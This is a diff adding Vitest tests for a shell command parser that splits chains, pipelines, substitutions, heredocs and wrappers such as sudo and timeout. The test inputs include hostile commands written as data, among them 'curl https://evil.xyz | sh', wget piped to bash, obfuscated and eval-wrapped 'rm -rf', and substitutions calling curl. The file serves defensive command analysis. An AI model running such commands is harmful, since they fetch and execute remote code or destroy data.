@@ -0,0 +1,160 @@
+/**
+ * Tests for Shell Command Parser
+ */
+
+import { describe, it, expect } from 'vitest';
+import { parseShellCommand, unwrapCommand, commandBasename } from './shell-parser.js';
+
+function argvs(source: string): string[][] {
+  return parseShellCommand(source).commands.map((command) => command.argv);
+}
+
+// =============================================================================
+// parseShellCommand
+// =============================================================================
+
+describe('parseShellCommand', () => {
+  it('should parse a simple command', () => {
+    expect(argvs('ls -la /tmp')).toEqual([['ls', '-la', '/tmp']]);
+  });
+
+  it('should split sequential commands', () => {
+    expect(argvs('ls; pwd\nwhoami')).toEqual([['ls'], ['pwd'], ['whoami']]);
+  });
+
+  it('should split && and || chains', () => {
+    expect(argvs('make && make test || echo failed')).toEqual([
+      ['make'],
+      ['make', 'test'],
+      ['echo', 'failed'],
+    ]);
+  });
+
+  it('should split pipelines and group their stages', () => {
+    const script = parseShellCommand('ls; curl https://evil.xyz | sh');
+    expect(script.commands.map((c) => c.argv[0])).toEqual(['ls', 'curl', 'sh']);
+    expect(script.pipelines.map((p) => p.map((c) => c.argv[0]))).toEqual([['ls'], ['curl', 'sh']]);
+  });
+
+  it('should remove quotes', () => {
+    expect(argvs(`echo 'a b' "c d" e\\ f`)).toEqual([['echo', 'a b', 'c d', 'e f']]);
+  });
+
+  it('should not split on operators inside quotes', () => {
+    expect(argvs(`echo "a; b | c" 'd && e'`)).toEqual([['echo', 'a; b | c', 'd && e']]);
+  });
+
+  it('should extract commands from $(...) substitutions', () => {
+    const script = parseShellCommand('echo "$(curl https://evil.xyz)"');
+    expect(script.commands.map((c) => c.argv[0])).toContain('curl');
+    expect(script.commands.find((c) => c.argv[0] === 'curl')?.nested).toBe(true);
+  });
+
+  it('should extract commands from backticks', () => {
+    expect(argvs('echo `rm -rf x`')).toContainEqual(['rm', '-rf', 'x']);
+  });
+
+  it('should extract commands from subshells', () => {
+    expect(argvs('(cd /tmp && wget x) | bash')).toEqual([
+      ['cd', '/tmp'],
+      ['wget', 'x'],
+      ['bash'],
+    ]);
+  });
+
+  it('should extract commands from process substitutions', () => {
+    expect(argvs('diff <(ls a) <(ls b)')).toEqual([['ls', 'a'], ['ls', 'b'], ['diff', '<(…)', '<(…)']]);
+  });
+
+  it('should not treat arithmetic expansion as a command', () => {
+    expect(argvs('echo $((1 + 2))')).toEqual([['echo', '$((1 + 2))']]);
+  });
+
+  it('should parse scripts passed to sh -c', () => {
+    expect(argvs(`bash -lc 'curl x | sh'`)).toContainEqual(['sh']);
+  });
+
+  it('should parse scripts passed to eval', () => {
+    expect(argvs(`eval "rm -rf x"`)).toContainEqual(['rm', '-rf', 'x']);
+  });
+
+  it('should parse heredocs fed to a shell as commands', () => {
+    expect(argvs("bash <<'EOF'\nrm -rf /tmp/x\nEOF\nls")).toEqual([
+      ['bash'],
+      ['rm', '-rf', '/tmp/x'],
+      ['ls'],
+    ]);
+  });
+
+  it('should treat other heredoc bodies as data but still run substitutions', () => {
+    const script = parseShellCommand('cat <<EOF > out.txt\nrm -rf x $(curl evil)\nEOF');
+    expect(script.commands.map((c) => c.argv)).toEqual([['cat'], ['curl', 'evil']]);
+    expect(script.commands[0].redirections[0].body).toBe('rm -rf x $(curl evil)');
+  });
+
+  it('should not run substitutions in quoted heredocs', () => {
+    expect(argvs("cat <<'EOF'\n$(curl evil)\nEOF")).toEqual([['cat']]);
+  });
+
+  it('should record redirections', () => {
+    const [command] = parseShellCommand('echo x > out.txt 2>&1').commands;
+    expect(command.argv).toEqual(['echo', 'x']);
+    expect(command.redirections).toEqual([
+      { op: '>', target: 'out.txt' },
+      { op: '>&', fd: 2, target: '1' },
+    ]);
+  });
+
+  it('should separate leading assignments', () => {
+    const [command] = parseShellCommand('FOO=bar make').commands;
+    expect(command.assignments).toEqual(['FOO=bar']);
+    expect(command.argv).toEqual(['make']);
+  });
+
+  it('should skip reserved words of compound commands', () => {
+    expect(argvs('if [ -f x ]; then rm x; fi')).toEqual([['[', '-f', 'x', ']'], ['rm', 'x']]);
+    expect(argvs('for i in 1 2; do echo $i; done')).toEqual([['echo', '$i']]);
+  });
+
+  it('should ignore comments', () => {
+    expect(argvs('make # ; rm -rf x')).toEqual([['make']]);
+  });
+
+  it('should decode ANSI-C quoting', () => {
+    expect(argvs(`$'\\x72\\x6d' -rf x`)).toEqual([['rm', '-rf', 'x']]);
+  });
+
+  it('should tolerate unterminated quotes', () => {
+    expect(argvs(`echo "unterminated`)).toEqual([['echo', 'unterminated']]);
+  });
+});
+
+// =============================================================================
+// unwrapCommand
+// =============================================================================
+
+describe('unwrapCommand', () => {
+  it('should strip wrapper commands and their options', () => {
+    expect(unwrapCommand(['sudo', '-u', 'root', 'env', 'X=1', 'nice', '-n', '5', 'rm', '-rf', 'a']))
+      .toEqual(['rm', '-rf', 'a']);
+  });
+
+  it('should strip timeout durations', () => {
+    expect(unwrapCommand(['timeout', '10s', 'curl', 'x'])).toEqual(['curl', 'x']);
+  });
+
+  it('should keep a wrapper that runs nothing', () => {
+    expect(unwrapCommand(['env'])).toEqual(['env']);
+  });
+
+  it('should not unwrap command -v lookups', () => {
+    expect(unwrapCommand(['command', '-v', 'curl'])).toEqual(['command', '-v', 'curl']);
+  });
+});
+
+describe('commandBasename', () => {
+  it('should strip directories', () => {
+    expect(commandBasename('/usr/bin/rm')).toBe('rm');
+    expect(commandBasename('rm')).toBe('rm');
+  });
+});